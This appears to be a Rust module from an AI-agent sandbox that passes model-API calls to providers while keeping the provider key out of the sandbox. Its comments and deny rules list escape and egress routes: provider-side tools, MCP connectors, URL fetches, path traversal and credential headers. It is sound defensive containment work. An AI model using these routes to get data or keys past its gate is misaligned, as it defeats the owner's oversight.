//! Provider pass-through: one HTTP request of a sandboxed agent's own model client, sent
//! to a provider the owner configured, with the provider's key added here so that the key
//! never enters the sandbox. The agent socket's `provider.request` is its only caller.
//!
//! It never forwards the agent's own credentials, cookies or hop-by-hop headers, never
//! reaches anything but the target's base URL (no redirects are followed, the path cannot
//! climb out of the base path), never hands the agent a response byte that has not passed
//! the scrubber (which knows every target's key), and never logs or returns the key.
//!
//! It forwards model calls only: a fixed list of endpoints per dialect ([`ANTHROPIC_ENDPOINTS`],
//! [`OPENAI_ENDPOINTS`]), and no body that asks the provider to reach the network itself
//! (an MCP server, a server-side tool, a URL to fetch, a background job). Such a call is
//! egress with the owner's key and the agent's data that the Gate never sees; the agent's
//! own tools run in its sandbox, behind the Gate.

use std::collections::HashMap;
use std::net::IpAddr;
use std::time::{Duration, Instant};

use carapace_gate::{Scrubber, SharedScrubber};
use carapace_types::{ErrorCode, Secret};
use reqwest::header::{CONTENT_ENCODING, CONTENT_TYPE, HeaderMap, HeaderName, HeaderValue};
use reqwest::{Method, Url};
use serde::de::{Deserialize, Deserializer, Error as _, MapAccess, SeqAccess, Visitor};
use serde_json::{Map, Number, Value};
use tokio::sync::mpsc;
use tokio::time::timeout;

/// The longest request path (with its query) accepted, in bytes.
pub const MAX_PATH_BYTES: usize = 2048;
/// The largest [`PassEvent::Chunk`]: the scrubber may hold back much more (an unfinished
/// private key block), and a socket line should stay small.
pub const MAX_CHUNK_BYTES: usize = 256 * 1024;
/// The most request headers accepted from the agent.
pub const MAX_REQUEST_HEADERS: usize = 128;

/// Request headers never forwarded: the agent's own credentials and cookies, what the
/// client sets itself, and `accept-encoding` (a compressed answer could not be scrubbed).
const DROPPED_REQUEST_HEADERS: &[&str] = &[
    "authorization",
    "proxy-authorization",
    "x-api-key",
    "x-goog-api-key",
    "api-key",
    "cookie",
    "host",
    "content-length",
    "accept-encoding",
];

/// Hop-by-hop headers (RFC 9110 section 7.6.1), dropped both ways.
const HOP_BY_HOP: &[&str] = &[
    "connection",
    "keep-alive",
    "te",
    "trailer",
    "transfer-encoding",
    "upgrade",
    "proxy-connection",
];

/// One endpoint a target forwards: a method and a path in which `{id}` stands for any one
/// non-empty segment.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Endpoint {
    /// `GET` or `POST`.
    pub method: &'static str,
    /// The path as the provider documents it, like `/v1/messages`.
    pub path: &'static str,
}

/// The model calls of an Anthropic-style target (`x-api-key`): messages, counting tokens,
/// listing models. No files, batches, skills or admin endpoints.
pub const ANTHROPIC_ENDPOINTS: &[Endpoint] = &[
    Endpoint {
        method: "POST",
        path: "/v1/messages",
    },
    Endpoint {
        method: "POST",
        path: "/v1/messages/count_tokens",
    },
    Endpoint {
        method: "GET",
        path: "/v1/models",
    },
    Endpoint {
        method: "GET",
        path: "/v1/models/{id}",
    },
];

/// The model calls of an OpenAI-style target (`Bearer`): chat completions, responses,
/// embeddings, listing models. No files, batches, stored responses, images or audio.
pub const OPENAI_ENDPOINTS: &[Endpoint] = &[
    Endpoint {
        method: "POST",
        path: "/v1/chat/completions",
    },
    Endpoint {
        method: "POST",
        path: "/v1/responses",
    },
    Endpoint {
        method: "POST",
        path: "/v1/embeddings",
    },
    Endpoint {
        method: "GET",
        path: "/v1/models",
    },
    Endpoint {
        method: "GET",
        path: "/v1/models/{id}",
    },
];

/// Response headers never handed back: cookies, and the length (scrubbing changes it;
/// the sandbox side frames the body itself).
const DROPPED_RESPONSE_HEADERS: &[&str] = &["set-cookie", "set-cookie2", "content-length"];

/// One provider the agent may reach through the pass-through.
#[derive(Debug)]
pub struct PassTarget {
    /// The name the agent addresses it by, like `anthropic`.
    pub name: String,
    /// The provider's endpoint, like `https://api.anthropic.com` or
    /// `https://api.openai.com/v1`. The caller has already checked it with the rule for
    /// every provider URL (`https` unless the host is loopback; `cara`'s
    /// `config::check_base_url`); [`Passthrough::new`] only refuses what the path join
    /// cannot work with (a query, a fragment, credentials, a scheme other than http(s)).
    pub base_url: Url,
    /// How the key is sent.
    pub auth: AuthStyle,
    /// The provider's key.
    pub key: Secret<String>,
    /// Headers the owner sets on every request (they replace the agent's of that name).
    pub extra_headers: Vec<(String, String)>,
}

/// How a provider takes its key.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum AuthStyle {
    /// `Authorization: Bearer KEY` (OpenAI and the compatible APIs).
    Bearer,
    /// The key alone in this header (`x-api-key`, `x-goog-api-key`, `api-key`); lowercase.
    Header(&'static str),
}

/// The wire dialect of a target, read off its [`AuthStyle`]: it decides which endpoints are
/// forwarded and which tool kinds are the agent's own.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Dialect {
    /// `x-api-key`: the Anthropic Messages API.
    Anthropic,
    /// `Bearer`: the OpenAI Chat Completions and Responses APIs.
    OpenAi,
    /// Any other key header: no model endpoint is known, so nothing is forwarded.
    Unknown,
}

impl Dialect {
    fn of(auth: AuthStyle) -> Dialect {
        match auth {
            AuthStyle::Header("x-api-key") => Dialect::Anthropic,
            AuthStyle::Bearer => Dialect::OpenAi,
            AuthStyle::Header(_) => Dialect::Unknown,
        }
    }

    fn endpoints(self) -> &'static [Endpoint] {
        match self {
            Dialect::Anthropic => ANTHROPIC_ENDPOINTS,
            Dialect::OpenAi => OPENAI_ENDPOINTS,
            Dialect::Unknown => &[],
        }
    }

    /// Whether a tool of this `type` is one the agent's client runs itself: Anthropic's
    /// client tools have no type or `custom`; OpenAI's are `function` or `custom`. Every
    /// other kind (web search and fetch, code execution, MCP, file search, computer use,
    /// image generation, and the kinds yet to come) is refused.
    fn is_client_tool(self, kind: Option<&str>) -> bool {
        match self {
            Dialect::Anthropic => matches!(kind, None | Some("custom")),
            Dialect::OpenAi | Dialect::Unknown => matches!(kind, Some("function" | "custom")),
        }
    }
}

/// Bounds of one forwarded request.
#[derive(Clone, Debug)]
pub struct PassLimits {
    /// The largest request body, in bytes.
    pub max_request_bytes: usize,
    /// The most response body bytes read from the provider; past it the forward fails.
    pub max_response_bytes: u64,
    /// How long connecting to the provider may take.
    pub connect_timeout: Duration,
    /// How long the provider may take to send the response head (an unstreamed answer
    /// comes only when the whole answer is ready).
    pub head_timeout: Duration,
    /// The longest silence between two pieces of the response body.
    pub stall_timeout: Duration,
}

impl Default for PassLimits {
    fn default() -> PassLimits {
        PassLimits {
            max_request_bytes: 32 * 1024 * 1024,
            max_response_bytes: 64 * 1024 * 1024,
            connect_timeout: Duration::from_secs(30),
            head_timeout: Duration::from_secs(600),
            stall_timeout: Duration::from_secs(300),
        }
    }
}

/// One HTTP request of the agent, as `provider.request` carries it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct PassRequest {
    /// The target's name.
    pub provider: String,
    /// `GET`, `POST`, `PUT`, `DELETE` or `PATCH`.
    pub method: String,
    /// The path below the base URL, with its query: `/v1/messages?beta=true`.
    pub path: String,
    /// The agent's headers, names in any case.
    pub headers: Vec<(String, String)>,
    /// The body, decoded.
    pub body: Vec<u8>,
}

/// What the agent gets back, in order: one `Head`, then any number of `Chunk`s.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum PassEvent {
    /// The status and the filtered, scrubbed headers (names lowercase).
    Head {
        /// The HTTP status.
        status: u16,
        /// The headers.
        headers: Vec<(String, String)>,
    },
    /// The next scrubbed piece of the body: never empty, at most [`MAX_CHUNK_BYTES`],
    /// and it may end inside a UTF-8 character that the next piece finishes.
    Chunk(Vec<u8>),
}

/// What a completed forward did, for the audit record.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct PassSummary {
    /// The target's name.
    pub provider: String,
    /// The method.
    pub method: String,
    /// The request path without its query.
    pub path: String,
    /// The provider's HTTP status.
    pub status: u16,
    /// Request body bytes sent.
    pub bytes_out: u64,
    /// Response body bytes received from the provider.
    pub bytes_in: u64,
    /// Response body bytes handed to the agent, after scrubbing.
    pub bytes_delivered: u64,
    /// From the call of [`Passthrough::forward`] to the end of the body.
    pub duration: Duration,
}

/// Why a request was not forwarded or its response broke off. No message holds the key:
/// details from the HTTP client pass the scrubber first.
#[derive(Debug, thiserror::Error)]
pub enum PassError {
    /// No target by that name (the name is cut to 64 characters).
    #[error("provider {0:?} is not configured for pass-through")]
    UnknownProvider(String),
    /// The endpoint is not a model call of the target's dialect.
    #[error("{method} {path} is refused: only model calls pass through to the provider")]
    Forbidden {
        /// The method.
        method: String,
        /// The path without its query (cut to 128 characters).
        path: String,
    },
    /// The body asks the provider to reach the network itself; the text names what.
    #[error("{0} is refused: the provider would reach the network itself, outside the gate")]
    ProviderSide(String),
    /// The body cannot be checked; the reason says why.
    #[error("request body refused: {0}")]
    BadBody(String),
    /// A method other than GET, POST, PUT, DELETE and PATCH.
    #[error("method {0:?} is not allowed; use GET, POST, PUT, DELETE or PATCH")]
    BadMethod(String),
    /// The path is refused; the reason says why.
    #[error("path refused: {0}")]
    BadPath(&'static str),
    /// More than [`MAX_REQUEST_HEADERS`] headers.
    #[error("more than {MAX_REQUEST_HEADERS} request headers")]
    TooManyHeaders,
    /// The request body is over [`PassLimits::max_request_bytes`].
    #[error("request body is larger than {limit} bytes")]
    BodyTooLarge {
        /// The limit.
        limit: usize,
    },
    /// The owner's target cannot be used (found by [`Passthrough::new`]).
    #[error("pass-through provider {provider:?}: {reason}")]
    InvalidTarget {
        /// The target's name.
        provider: String,
        /// What is wrong.
        reason: String,
    },
    /// Connecting or sending failed.
    #[error("cannot reach provider {provider}: {detail}")]
    Unreachable {
        /// The target's name.
        provider: String,
        /// The HTTP client's error, scrubbed.
        detail: String,
    },
    /// No response head within [`PassLimits::head_timeout`].
    #[error("provider {provider} did not answer within {after:?}")]
    Timeout {
        /// The target's name.
        provider: String,
        /// The limit.
        after: Duration,
    },
    /// The body stopped for longer than [`PassLimits::stall_timeout`].
    #[error("provider {provider} sent nothing for {after:?}")]
    Stalled {
        /// The target's name.
        provider: String,
        /// The limit.
        after: Duration,
    },
    /// The body grew past [`PassLimits::max_response_bytes`].
    #[error("response of provider {provider} is larger than {limit} bytes")]
    ResponseTooLarge {
        /// The target's name.
        provider: String,
        /// The limit.
        limit: u64,
    },
    /// The body is compressed or not text, so the scrubber cannot read it.
    #[error("response of provider {provider} cannot be scrubbed: {what}")]
    Unscrubbable {
        /// The target's name.
        provider: String,
        /// The content type or encoding.
        what: String,
    },
    /// The body broke off.
    #[error("response of provider {provider} broke off: {detail}")]
    Broken {
        /// The target's name.
        provider: String,
        /// The HTTP client's error, scrubbed.
        detail: String,
    },
    /// The receiver of the events went away (the agent hung up).
    #[error("the agent stopped reading the response")]
    Cancelled,
}

impl PassError {
    /// The Gate's error code this error maps to, for the socket's JSON-RPC error.
    pub fn code(&self) -> ErrorCode {
        match self {
            PassError::UnknownProvider(_) => ErrorCode::Unauthorized,
            PassError::Forbidden { .. } | PassError::ProviderSide(_) => ErrorCode::PolicyDenied,
            PassError::BadMethod(_)
            | PassError::BadBody(_)
            | PassError::BadPath(_)
            | PassError::TooManyHeaders
            | PassError::BodyTooLarge { .. } => ErrorCode::ValidationFailed,
            PassError::InvalidTarget { .. } => ErrorCode::Internal,
            PassError::Timeout { .. } | PassError::Stalled { .. } => ErrorCode::ToolTimeout,
            PassError::Unreachable { .. }
            | PassError::ResponseTooLarge { .. }
            | PassError::Unscrubbable { .. }
            | PassError::Broken { .. }
            | PassError::Cancelled => ErrorCode::ToolError,
        }
    }
}

/// A checked target: its client and its ready headers.
struct Target {
    name: String,
    base_url: Url,
    client: reqwest::Client,
    dialect: Dialect,
    /// The endpoints forwarded: the dialect's list, kept per target so that endpoints the
    /// owner configures can join it.
    endpoints: Vec<Endpoint>,
    /// The auth header, its value marked sensitive so HTTP/2 never indexes it.
    auth: (HeaderName, Secret<HeaderValue>),
    extra: Vec<(HeaderName, HeaderValue)>,
}

/// The configured targets, the scrubber and the limits; shared by every socket connection.
pub struct Passthrough {
    targets: HashMap<String, Target>,
    scrubber: SharedScrubber,
    limits: PassLimits,
}

impl std::fmt::Debug for Passthrough {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let mut names: Vec<&str> = self.targets.keys().map(String::as_str).collect();
        names.sort_unstable();
        write!(f, "Passthrough({names:?})")
    }
}

impl Passthrough {
    /// Checks the targets and builds one HTTP client each (no redirects; no proxy to a
    /// loopback host). Every key joins `scrubber`, and a key the scrubber would not catch
    /// (shorter than its minimum) is refused.
    pub fn new(
        targets: Vec<PassTarget>,
        scrubber: SharedScrubber,
        limits: PassLimits,
    ) -> Result<Passthrough, PassError> {
        let keys: Vec<Secret<String>> = targets.iter().map(|t| t.key.clone()).collect();
        scrubber.add(&keys);
        let current = scrubber.current();
        let mut checked = HashMap::new();
        for t in targets {
            let target = check_target(t, &current, &limits)?;
            if checked.contains_key(&target.name) {
                return Err(invalid(&target.name, "configured twice"));
            }
            checked.insert(target.name.clone(), target);
        }
        Ok(Passthrough {
            targets: checked,
            scrubber,
            limits,
        })
    }

    /// The names of the targets, sorted.
    pub fn providers(&self) -> Vec<String> {
        let mut names: Vec<String> = self.targets.keys().cloned().collect();
        names.sort_unstable();
        names
    }

    /// Sends `req` to its target and streams the response into `sink`: one
    /// [`PassEvent::Head`], then the body in scrubbed [`PassEvent::Chunk`]s. Only the
    /// target's model endpoints are reached, with a body that asks the provider to reach
    /// nothing else (see the module doc). On `Ok` the
    /// body is complete; on `Err` after the head it was cut short, and the agent must be
    /// told the response is broken. Dropping the future drops the provider's connection.
    pub async fn forward(
        &self,
        req: PassRequest,
        sink: mpsc::Sender<PassEvent>,
    ) -> Result<PassSummary, PassError> {
        let started = Instant::now();
        let target = self
            .targets
            .get(&req.provider)
            .ok_or_else(|| PassError::UnknownProvider(req.provider.chars().take(64).collect()))?;
        let method = check_method(&req.method)?;
        let url = target_url(&target.base_url, &req.path)?;
        target.check_endpoint(&method, &req.path)?;
        if req.headers.len() > MAX_REQUEST_HEADERS {
            return Err(PassError::TooManyHeaders);
        }
        if req.body.len() > self.limits.max_request_bytes {
            return Err(PassError::BodyTooLarge {
                limit: self.limits.max_request_bytes,
            });
        }
        if method == Method::GET {
            if !req.body.is_empty() {
                return Err(PassError::BadBody("a GET request carries no body".into()));
            }
        } else {
            check_body(target.dialect, &req.body)?;
        }
        let scrubber = self.scrubber.current();
        let provider = target.name.clone();
        let mut summary = PassSummary {
            provider: provider.clone(),
            method: method.as_str().to_string(),
            path: url.path().to_string(),
            status: 0,
            bytes_out: req.body.len() as u64,
            bytes_in: 0,
            bytes_delivered: 0,
            duration: Duration::ZERO,
        };
        let mut builder = target
            .client
            .request(method, url)
            .headers(target.request_headers(&req.headers));
        if !req.body.is_empty() {
            builder = builder.body(req.body);
        }
        let mut resp = timeout(self.limits.head_timeout, builder.send())
            .await
            .map_err(|_| PassError::Timeout {
                provider: provider.clone(),
                after: self.limits.head_timeout,
            })?
            .map_err(|e| PassError::Unreachable {
                provider: provider.clone(),
                detail: client_error(&e, &scrubber),
            })?;
        summary.status = resp.status().as_u16();
        if let Some(what) = unscrubbable(resp.headers()) {
            return Err(PassError::Unscrubbable { provider, what });
        }
        let head = PassEvent::Head {
            status: summary.status,
            headers: response_headers(resp.headers(), &scrubber),
        };
        sink.send(head).await.map_err(|_| PassError::Cancelled)?;
        tracing::debug!(
            provider,
            path = summary.path,
            status = summary.status,
            "pass-through"
        );

        let mut stream = scrubber.stream();
        let mut pending = Vec::new();
        loop {
            let chunk = match timeout(self.limits.stall_timeout, resp.chunk()).await {
                Err(_) => {
                    return Err(PassError::Stalled {
                        provider,
                        after: self.limits.stall_timeout,
                    });
                }
                Ok(Err(e)) => {
                    return Err(PassError::Broken {
                        provider,
                        detail: client_error(&e, &scrubber),
                    });
                }
                Ok(Ok(None)) => break,
                Ok(Ok(Some(chunk))) => chunk,
            };
            summary.bytes_in += chunk.len() as u64;
            if summary.bytes_in > self.limits.max_response_bytes {
                return Err(PassError::ResponseTooLarge {
                    provider,
                    limit: self.limits.max_response_bytes,
                });
            }
            pending.extend_from_slice(&chunk);
            let text = take_utf8(&mut pending);
            emit(&sink, stream.push(&text), &mut summary).await?;
        }
        let mut rest = stream.push(&String::from_utf8_lossy(&pending));
        rest.push_str(&stream.finish());
        emit(&sink, rest, &mut summary).await?;
        summary.duration = started.elapsed();
        Ok(summary)
    }
}

/// Sends a scrubbed piece, cut into chunks of at most [`MAX_CHUNK_BYTES`]; nothing when
/// it is empty.
async fn emit(
    sink: &mpsc::Sender<PassEvent>,
    text: String,
    summary: &mut PassSummary,
) -> Result<(), PassError> {
    summary.bytes_delivered += text.len() as u64;
    for piece in text.as_bytes().chunks(MAX_CHUNK_BYTES) {
        sink.send(PassEvent::Chunk(piece.to_vec()))
            .await
            .map_err(|_| PassError::Cancelled)?;
    }
    Ok(())
}

fn invalid(provider: &str, reason: impl Into<String>) -> PassError {
    PassError::InvalidTarget {
        provider: provider.to_string(),
        reason: reason.into(),
    }
}

fn check_target(
    t: PassTarget,
    scrubber: &Scrubber,
    limits: &PassLimits,
) -> Result<Target, PassError> {
    let name = t.name;
    let base = &t.base_url;
    if name.is_empty()
        || !name
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
    {
        return Err(invalid(
            &name,
            "the name must be letters, digits, `-` and `_`",
        ));
    }
    if !matches!(base.scheme(), "http" | "https") || base.cannot_be_a_base() {
        return Err(invalid(&name, "base_url must be an http or https url"));
    }
    if !base.username().is_empty() || base.password().is_some() {
        return Err(invalid(&name, "base_url must not carry credentials"));
    }
    if base.query().is_some() || base.fragment().is_some() {
        return Err(invalid(
            &name,
            "base_url must not have a query or a fragment",
        ));
    }
    if t.key.expose().is_empty() {
        return Err(invalid(&name, "the key is empty"));
    }
    if !scrubber.contains_secret(t.key.expose()) {
        return Err(invalid(&name, "the key is too short to be scrubbed"));
    }
    // In a `Secret` so that the copy with the key is wiped when dropped.
    let (header, value) = match t.auth {
        AuthStyle::Bearer => (
            "authorization",
            Secret::new(format!("Bearer {}", t.key.expose())),
        ),
        AuthStyle::Header(h) => (h, t.key.clone()),
    };
    let header = HeaderName::from_bytes(header.as_bytes())
        .map_err(|_| invalid(&name, "the key header is not a header name"))?;
    let mut value = HeaderValue::from_str(value.expose())
        .map_err(|_| invalid(&name, "the key holds characters not allowed in a header"))?;
    value.set_sensitive(true);
    let mut extra = Vec::new();
    for (n, v) in &t.extra_headers {
        let n = n.to_ascii_lowercase();
        if is_dropped_request_header(&n) || n == header.as_str() {
            return Err(invalid(&name, format!("extra header `{n}` cannot be set")));
        }
        let (Ok(hn), Ok(hv)) = (
            HeaderName::from_bytes(n.as_bytes()),
            HeaderValue::from_str(v),
        ) else {
            return Err(invalid(
                &name,
                format!("extra header `{n}` is not a valid header"),
            ));
        };
        extra.push((hn, hv));
    }
    let mut builder = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .connect_timeout(limits.connect_timeout);
    if is_loopback(base) {
        builder = builder.no_proxy();
    }
    let client = builder
        .build()
        .map_err(|e| invalid(&name, format!("cannot build the http client: {e}")))?;
    let dialect = Dialect::of(t.auth);
    Ok(Target {
        name,
        base_url: t.base_url,
        client,
        dialect,
        endpoints: dialect.endpoints().to_vec(),
        auth: (header, Secret::new(value)),
        extra,
    })
}

fn is_loopback(url: &Url) -> bool {
    let host = url.host_str().unwrap_or_default();
    let host = host.trim_start_matches('[').trim_end_matches(']');
    host.eq_ignore_ascii_case("localhost")
        || host.parse::<IpAddr>().is_ok_and(|ip| ip.is_loopback())
}

impl Target {
    /// Refuses a request that is not for one of the target's endpoints. The endpoint's
    /// path must end the path the provider gets (the base path joined with `path`), and
    /// `path` must lie inside it: so `/v1/messages` passes below `https://api.anthropic.com`
    /// and `/chat/completions` below `https://api.openai.com/v1`, but `/x/v1/messages`
    /// passes nowhere. `path` is one [`target_url`] accepted; its query is not compared.
    fn check_endpoint(&self, method: &Method, path: &str) -> Result<(), PassError> {
        let path = path.split_once('?').map_or(path, |(p, _)| p);
        let asked: Vec<&str> = path.split('/').skip(1).collect();
        let joined: Vec<&str> = self
            .base_url
            .path()
            .split('/')
            .filter(|s| !s.is_empty())
            .chain(asked.iter().copied())
            .collect();
        let reaches = |e: &Endpoint| {
            let pattern: Vec<&str> = e.path.split('/').skip(1).collect();
            e.method == method.as_str()
                && asked.len() <= pattern.len()
                && joined.len() >= pattern.len()
                && joined[joined.len() - pattern.len()..]
                    .iter()
                    .zip(&pattern)
                    .all(|(seg, pat)| match *pat {
                        "{id}" => !seg.is_empty(),
                        pat => *seg == pat,
                    })
        };
        if self.endpoints.iter().any(reaches) {
            Ok(())
        } else {
            Err(PassError::Forbidden {
                method: method.as_str().to_string(),
                path: path.chars().take(128).collect(),
            })
        }
    }

    /// The agent's headers without credentials, cookies, hop-by-hop headers (and those a
    /// `connection` header names), invalid ones and those the owner sets; then the
    /// owner's extra headers and the key. `anthropic-beta` loses every flag naming MCP
    /// (the MCP connector is refused in the body too).
    fn request_headers(&self, agent: &[(String, String)]) -> HeaderMap {
        let named_by_connection: Vec<String> = agent
            .iter()
            .filter(|(n, _)| n.eq_ignore_ascii_case("connection"))
            .flat_map(|(_, v)| v.split(',').map(|t| t.trim().to_ascii_lowercase()))
            .collect();
        let mut headers = HeaderMap::new();
        for (name, value) in agent {
            let name = name.to_ascii_lowercase();
            if is_dropped_request_header(&name)
                || named_by_connection.contains(&name)
                || name == self.auth.0.as_str()
                || self.extra.iter().any(|(n, _)| n.as_str() == name)
            {
                continue;
            }
            let value = if name == "anthropic-beta" {
                let kept: Vec<&str> = value
                    .split(',')
                    .map(str::trim)
                    .filter(|flag| !flag.is_empty() && !flag.to_ascii_lowercase().contains("mcp"))
                    .collect();
                if kept.is_empty() {
                    continue;
                }
                kept.join(",")
            } else {
                value.clone()
            };
            if let (Ok(n), Ok(v)) = (
                HeaderName::from_bytes(name.as_bytes()),
                HeaderValue::from_str(&value),
            ) {
                headers.append(n, v);
            }
        }
        for (n, v) in &self.extra {
            headers.insert(n.clone(), v.clone());
        }
        headers.insert(self.auth.0.clone(), self.auth.1.expose().clone());
        headers
    }
}

fn is_dropped_request_header(name: &str) -> bool {
    DROPPED_REQUEST_HEADERS.contains(&name) || HOP_BY_HOP.contains(&name)
}

fn check_method(method: &str) -> Result<Method, PassError> {
    match method {
        "GET" => Ok(Method::GET),
        "POST" => Ok(Method::POST),
        "PUT" => Ok(Method::PUT),
        "DELETE" => Ok(Method::DELETE),
        "PATCH" => Ok(Method::PATCH),
        other => Err(PassError::BadMethod(other.chars().take(16).collect())),
    }
}

/// The URL a request for `path` goes to: the scheme, host and port of `base`; as path,
/// the path of `base` without its trailing `/` followed by the request's path; as query,
/// the request's query as given. So `https://api.anthropic.com` + `/v1/messages` is
/// `https://api.anthropic.com/v1/messages`, and `https://api.openai.com/v1` (or `.../v1/`)
/// + `/chat/completions` is `https://api.openai.com/v1/chat/completions`.
///
/// Refused: a path over [`MAX_PATH_BYTES`]; any byte that is not visible ASCII (controls,
/// spaces, non-ASCII; clients percent-encode those); `#` and `\`; a path not starting with
/// `/` (so no scheme or authority); an empty segment (`//`); a `.` or `..` segment, also
/// percent-encoded (`%2e%2E`); an encoded `/` or `\` (`%2f`, `%5c`), which a server could
/// decode into a separator; and a path the URL parser would rewrite.
#[must_use = "the checked URL is the one to send to"]
fn target_url(base: &Url, path: &str) -> Result<Url, PassError> {
    if path.len() > MAX_PATH_BYTES {
        return Err(PassError::BadPath("longer than 2048 bytes"));
    }
    if !path.bytes().all(|b| (0x21..=0x7e).contains(&b)) {
        return Err(PassError::BadPath(
            "holds a control character, a space or a non-ASCII byte",
        ));
    }
    if path.contains(['#', '\\']) {
        return Err(PassError::BadPath("holds `#` or `\\`"));
    }
    let (p, query) = match path.split_once('?') {
        Some((p, q)) => (p, Some(q)),
        None => (path, None),
    };
    if !p.starts_with('/') {
        return Err(PassError::BadPath("must start with `/`"));
    }
    if p.contains("//") {
        return Err(PassError::BadPath("holds an empty segment (`//`)"));
    }
    let lower = p.to_ascii_lowercase();
    if lower.contains("%2f") || lower.contains("%5c") {
        return Err(PassError::BadPath("holds an encoded `/` or `\\`"));
    }
    if lower
        .split('/')
        .any(|seg| matches!(seg.replace("%2e", ".").as_str(), "." | ".."))
    {
        return Err(PassError::BadPath("holds a `.` or `..` segment"));
    }
    let joined = format!("{}{p}", base.path().trim_end_matches('/'));
    let mut url = base.clone();
    url.set_path(&joined);
    url.set_query(query);
    if url.path() != joined || url.origin() != base.origin() {
        return Err(PassError::BadPath("would be rewritten by the url parser"));
    }
    Ok(url)
}

/// Refuses a body the provider would act on outside the Gate. A provider-side tool is egress
/// the Gate never sees: the provider, holding the owner's key, connects to an MCP server,
/// fetches or searches the web, runs code with network access or reads a URL, all with
/// what the agent wrote; a background job goes on after the call. So the body must be one
/// JSON object (content type ignored; a key given twice, which the provider might read the
/// other way, is refused) without:
/// - `mcp_servers` (Anthropic's MCP connector);
/// - `background: true` (an OpenAI response computed after the call);
/// - `web_search_options` (OpenAI chat's web search);
/// - a tool that is not the client's own ([`Dialect::is_client_tool`]);
/// - an image or document the provider would fetch by URL ([`fetched_url`]).
///
/// The body is sent as the agent wrote it: what was checked is what the provider reads.
fn check_body(dialect: Dialect, body: &[u8]) -> Result<(), PassError> {
    let bad = |reason: &str| PassError::BadBody(reason.to_string());
    let Distinct(body) =
        serde_json::from_slice(body).map_err(|e| PassError::BadBody(format!("not JSON: {e}")))?;
    let Value::Object(top) = body else {
        return Err(bad("not a JSON object"));
    };
    if top.contains_key("mcp_servers") {
        return Err(PassError::ProviderSide("`mcp_servers`".into()));
    }
    if top.get("background") == Some(&Value::Bool(true)) {
        return Err(PassError::ProviderSide("`background: true`".into()));
    }
    if top.contains_key("web_search_options") {
        return Err(PassError::ProviderSide("`web_search_options`".into()));
    }
    match top.get("tools") {
        None | Some(Value::Null) => {}
        Some(Value::Array(tools)) => {
            for tool in tools {
                let Value::Object(tool) = tool else {
                    return Err(bad("a tool is not an object"));
                };
                let kind = match tool.get("type") {
                    None => None,
                    Some(Value::String(kind)) => Some(kind.as_str()),
                    Some(_) => return Err(bad("a tool's `type` is not a string")),
                };
                if !dialect.is_client_tool(kind) {
                    let kind = kind.map_or("none".to_string(), |k| format!("{:?}", shorten(k)));
                    return Err(PassError::ProviderSide(format!("tool type {kind}")));
                }
            }
        }
        Some(_) => return Err(bad("`tools` is not a list")),
    }
    let url = top
        .iter()
        .filter(|(key, _)| *key != "tools")
        .find_map(|(_, v)| fetched_url(v));
    match url {
        Some(url) => Err(PassError::ProviderSide(format!(
            "the url {:?}",
            shorten(url)
        ))),
        None => Ok(()),
    }
}

/// The first URL in `v` the provider would fetch: an Anthropic source `{"type": "url"}` (an
/// image or a document), an OpenAI `image_url` or `file_url` that is not a `data:` URL. The
/// `input` of a tool call is the agent's own data, which the provider does not read.
fn fetched_url(v: &Value) -> Option<&str> {
    let is_data = |url: &str| {
        url.trim_start()
            .get(..5)
            .is_some_and(|s| s.eq_ignore_ascii_case("data:"))
    };
    match v {
        Value::Array(items) => items.iter().find_map(fetched_url),
        Value::Object(o) => {
            let kind = o.get("type").and_then(Value::as_str);
            if kind == Some("url")
                && let Some(Value::String(url)) = o.get("url")
            {
                return Some(url);
            }
            for key in ["image_url", "file_url"] {
                let url = match o.get(key) {
                    Some(Value::String(url)) => Some(url.as_str()),
                    Some(Value::Object(inner)) => inner.get("url").and_then(Value::as_str),
                    _ => None,
                };
                if let Some(url) = url
                    && !is_data(url)
                {
                    return Some(url);
                }
            }
            let tool_call = kind.is_some_and(|k| k.ends_with("tool_use"));
            o.iter()
                .filter(|(key, _)| !(tool_call && *key == "input"))
                .find_map(|(_, v)| fetched_url(v))
        }
        _ => None,
    }
}

/// A JSON value in which no object gives a key twice. serde_json keeps the last of two,
/// a provider might keep the first: the check and the provider would read two bodies.
struct Distinct(Value);

impl<'de> Deserialize<'de> for Distinct {
    fn deserialize<D: Deserializer<'de>>(d: D) -> Result<Distinct, D::Error> {
        d.deserialize_any(DistinctVisitor).map(Distinct)
    }
}

struct DistinctVisitor;

impl<'de> Visitor<'de> for DistinctVisitor {
    type Value = Value;

    fn expecting(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("a JSON value")
    }

    fn visit_unit<E>(self) -> Result<Value, E> {
        Ok(Value::Null)
    }

    fn visit_bool<E>(self, v: bool) -> Result<Value, E> {
        Ok(Value::Bool(v))
    }

    fn visit_i64<E>(self, v: i64) -> Result<Value, E> {
        Ok(Value::Number(v.into()))
    }

    fn visit_u64<E>(self, v: u64) -> Result<Value, E> {
        Ok(Value::Number(v.into()))
    }

    fn visit_f64<E>(self, v: f64) -> Result<Value, E> {
        Ok(Number::from_f64(v).map_or(Value::Null, Value::Number))
    }

    fn visit_str<E>(self, v: &str) -> Result<Value, E> {
        Ok(Value::String(v.to_string()))
    }

    fn visit_string<E>(self, v: String) -> Result<Value, E> {
        Ok(Value::String(v))
    }

    fn visit_seq<A: SeqAccess<'de>>(self, mut seq: A) -> Result<Value, A::Error> {
        let mut items = Vec::new();
        while let Some(Distinct(v)) = seq.next_element()? {
            items.push(v);
        }
        Ok(Value::Array(items))
    }

    fn visit_map<A: MapAccess<'de>>(self, mut map: A) -> Result<Value, A::Error> {
        let mut object = Map::new();
        while let Some(key) = map.next_key::<String>()? {
            if object.contains_key(&key) {
                return Err(A::Error::custom(format_args!(
                    "key {:?} appears twice",
                    shorten(&key)
                )));
            }
            let Distinct(v) = map.next_value()?;
            object.insert(key, v);
        }
        Ok(Value::Object(object))
    }
}

/// The provider's headers without cookies, hop-by-hop headers and the length; values not
/// text are dropped, the rest scrubbed.
